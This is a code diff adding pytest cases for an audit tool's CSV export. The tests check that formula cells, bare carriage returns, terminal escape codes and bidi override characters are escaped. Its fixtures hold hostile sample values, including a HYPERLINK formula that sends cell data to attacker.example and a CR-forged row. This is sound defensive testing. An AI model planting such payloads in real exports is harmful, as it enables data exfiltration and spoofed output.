@@ -16,6 +16,10 @@ from tests.test_render_html_pdf import audit_scene, with_findings
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 LONG_MESSAGE = "sidecar still injected; " * 2_000  # 48,000 characters
 EMOJI = "\U0001f6a2" * 20_000  # 20,000 characters, 40,000 UTF-16 units: what Excel counts
+FORGED = "cart\rforged-row"  # a bare CR, unquoted, ends the record for csv readers: a forged row
+TERMINAL = "\x1b[31mRED\x1b]0;title\x07\x00NUL\u202eexe.txt\u2066iso\u200fmark\u2028sep"
+# Cells a spreadsheet runs as formulas (OWASP CSV injection), spelled out here rather than taken from csv_out.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @pytest.fixture(scope="module")
@@ -31,6 +35,9 @@ def result(tmp_path_factory: pytest.TempPathFactory) -> AuditResult:
         Finding(Status.WARN, "cluster-a", EMOJI, severity=Severity.MINOR, gate="uninstall",
                 check_id="istio-residue", kind="ConfigMap", namespace="ops", name="emoji-notes",
                 title="Istio residue"),
+        Finding(Status.FAIL, "cluster-a", TERMINAL, severity=Severity.MAJOR, gate="uninstall",
+                check_id="istio-residue", kind="ConfigMap", namespace="ops", name=FORGED,
+                remediation="kubectl get a\nkubectl get b", title="Istio residue"),
     ]
     return with_findings(base, extra)
 
@@ -50,7 +57,7 @@ def test_cells_that_would_run_as_formulas_are_text(result: AuditResult, tmp_path
     assert row["check_id"] == "istio-residue" and row["namespace"] == "ops"
     doc = json.loads(json_out.render(result, tmp_path).read_text(encoding="utf-8"))
     assert FORMULA in {f["message"] for f in doc["findings"]}
-    assert not any(cell.startswith(csv_out._FORMULA_START) for r in rows for cell in r.values())
+    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r.values())
 
 
 def test_cells_stop_at_excels_limit_and_say_where_the_rest_is(result: AuditResult, tmp_path: Path) -> None:
@@ -73,3 +80,22 @@ def test_plain_audits_are_written_as_they_are(tmp_path: Path) -> None:
     frame = result.findings
     assert [r["message"] for r in rows] == frame["message"].tolist()
     assert [r["name"] for r in rows] == frame["name"].fillna("").tolist()
+
+
+def test_control_and_bidi_characters_are_shown_as_escapes(result: AuditResult, tmp_path: Path) -> None:
+    """`cat findings.csv` runs no terminal escape, a CR forges no row; findings.json keeps the exact text."""
+    path = csv_out.render(result, tmp_path)
+    raw = path.read_text(encoding="utf-8")
+    for char in ("\r", "\x1b", "\x07", "\x00", "\u202e", "\u2066", "\u200f", "\u2028"):
+        assert char not in raw, repr(char)
+    rows = read_rows(path)
+    assert len(rows) == len(result.findings)
+    (row,) = [r for r in rows if r["remediation"] == "kubectl get a\nkubectl get b"]
+    assert row["name"] == "cart\\x0dforged-row"
+    assert row["message"] == "\\x1b[31mRED\\x1b]0;title\\x07\\x00NUL\\u202eexe.txt\\u2066iso\\u200fmark\\u2028sep"
+    # newlines stay (inside a quoted field): the row above was found by its two-line remediation
+    # Read line by line (as `grep` or a naive importer does), no line starts a record that is not one.
+    starts = [line.split(",", 1)[0] for line in raw.split("\n") if line]
+    assert "forged-row" not in starts
+    doc = json.loads(json_out.render(result, tmp_path).read_text(encoding="utf-8"))
+    assert {FORGED, TERMINAL} <= {f["name"] for f in doc["findings"]} | {f["message"] for f in doc["findings"]}
